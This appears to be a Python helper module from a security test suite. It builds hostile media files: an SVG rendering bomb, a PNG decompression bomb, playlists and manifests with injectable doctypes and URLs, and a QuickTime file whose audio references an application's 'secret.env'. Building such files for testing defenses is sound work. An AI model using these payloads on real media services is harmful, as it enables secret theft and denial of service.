"""Builders of hostile files: playlists, manifests, videos that refer to other files, image bombs."""

from __future__ import annotations

import struct
import zlib

from security.attacks.attack import Places


def playlist(segment: str, *before: str) -> str:
    """Return an HLS playlist of one segment."""
    lines = ("#EXTM3U", "#EXT-X-TARGETDURATION:4", "#EXT-X-MEDIA-SEQUENCE:0", *before, "#EXTINF:1,", segment)
    return "\n".join((*lines, "#EXT-X-ENDLIST", ""))


def manifest(base_url: str, *, doctype: str = "", title: str = "") -> str:
    """Return a DASH manifest with one representation."""
    information = f"<ProgramInformation><Title>{title}</Title></ProgramInformation>" if title else ""
    return (
        f'<?xml version="1.0" encoding="utf-8"?>{doctype}'
        '<MPD xmlns="urn:mpeg:dash:schema:mpd:2011" type="static" mediaPresentationDuration="PT2S" '
        f'profiles="urn:mpeg:dash:profile:isoff-on-demand:2011">{information}<Period><AdaptationSet '
        'contentType="video" mimeType="video/mp4"><Representation id="v" bandwidth="9000" codecs="avc1.42c00a" '
        f'width="160" height="90"><BaseURL>{base_url}</BaseURL></Representation></AdaptationSet></Period></MPD>'
    )


def sdp(port: str) -> str:
    """Return an SDP file that announces video on a port."""
    return (
        "v=0\r\no=- 1 1 IN IP4 127.0.0.1\r\ns=-\r\nc=IN IP4 127.0.0.1\r\nt=0 0\r\n"
        f"m=video {port} RTP/AVP 96\r\na=rtpmap:96 H264/90000\r\n"
    )


def svg(inside: str, *, doctype: str = "") -> str:
    """Return an SVG."""
    return (
        f'<?xml version="1.0"?>{doctype}<svg xmlns="http://www.w3.org/2000/svg" '
        f'xmlns:xlink="http://www.w3.org/1999/xlink" width="64" height="64">{inside}</svg>'
    )


def nested_svg(levels: int = 20, width: int = 11) -> str:
    """Return an SVG in which each group uses the previous group many times."""
    groups = ['<g id="g0"><rect width="1" height="1"/></g>']
    groups += [
        f'<g id="g{level}">' + f'<use xlink:href="#g{level - 1}"/>' * width + "</g>" for level in range(1, levels)
    ]
    return svg(f'<defs>{"".join(groups)}</defs><use xlink:href="#g{levels - 1}"/>')


def png(width: int, height: int, *, is_complete: bool = True) -> bytes:
    """Return a PNG of 1 bit per pixel, all black: a tiny file whatever its size."""
    row = bytes(1 + (width + 7) // 8)
    body = zlib.compress(row * (height if is_complete else 1), 3)
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + _chunk(b"IHDR", header) + _chunk(b"IDAT", body) + _chunk(b"IEND", b"")


def _chunk(name: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))


def quicktime_of_secrets(places: Places) -> bytes:
    """Return a QuickTime file whose audio data is a secret of the application."""
    return quicktime_with_external_audio(f"{places['app']}/secret.env")


def quicktime_with_external_audio(path: str) -> bytes:
    """Return a QuickTime file of 8-bit audio, 4000 samples at 8 kHz, whose data is in another file."""
    dinf = _box(b"dinf", _full(b"dref", 0, _count(1), _box(b"alis", _count(0), _alias(path.encode()))))
    entry = struct.pack(">6xHHHIHHHHI", 1, 0, 0, 0, 1, 8, 0, 0, 8000 << 16)
    table = (
        _full(b"stsd", 0, _count(1), _box(b"raw ", entry)),
        _full(b"stts", 0, struct.pack(">III", 1, 4000, 1)),
        _full(b"stsc", 0, struct.pack(">IIII", 1, 1, 4000, 1)),
        _full(b"stsz", 0, struct.pack(">II", 1, 4000)),
        _full(b"stco", 0, struct.pack(">II", 1, 0)),
    )
    media = (
        _full(b"mdhd", 0, struct.pack(">IIIIHH", 0, 0, 8000, 4000, 0, 0)),
        _full(b"hdlr", 0, b"mhlrsoun", bytes(13)),
        _box(b"minf", _full(b"smhd", 0, bytes(4)), dinf, _box(b"stbl", *table)),
    )
    matrix = struct.pack(">9I", 1 << 16, 0, 0, 0, 1 << 16, 0, 0, 0, 1 << 30)
    track = _full(
        b"tkhd", 7, struct.pack(">IIIII", 0, 0, 1, 0, 500), bytes(8), b"\0\0\0\0\1\0\0\0", matrix, bytes(8)
    )
    head = _full(
        b"mvhd", 0, struct.pack(">IIIIIH10x", 0, 0, 1000, 500, 1 << 16, 256), matrix, bytes(24), _count(2)
    )
    moov = _box(b"moov", head, _box(b"trak", track, _box(b"mdia", *media)))
    return _box(b"ftyp", b"qt  \0\0\0\0qt  ") + moov


def _alias(path: bytes) -> bytes:
    name = path.rsplit(b"/", 1)[-1]
    fixed = (
        struct.pack(">4xHHH", 0, 2, 0)
        + struct.pack(">B27s12x", 3, b"vol")
        + struct.pack(">B63s16x", len(name), name)
    )
    levels = struct.pack(">hh16x", 0, 0)
    paths = b"".join(struct.pack(">hH", kind, len(path)) + path + bytes(len(path) % 2) for kind in (2, 18))
    return fixed + levels + paths + struct.pack(">hH", -1, 0)


def _box(kind: bytes, *parts: bytes) -> bytes:
    body = b"".join(parts)
    return struct.pack(">I4s", len(body) + 8, kind) + body


def _full(kind: bytes, flags: int, *parts: bytes) -> bytes:
    return _box(kind, _count(flags), *parts)


def _count(number: int) -> bytes:
    return struct.pack(">I", number)
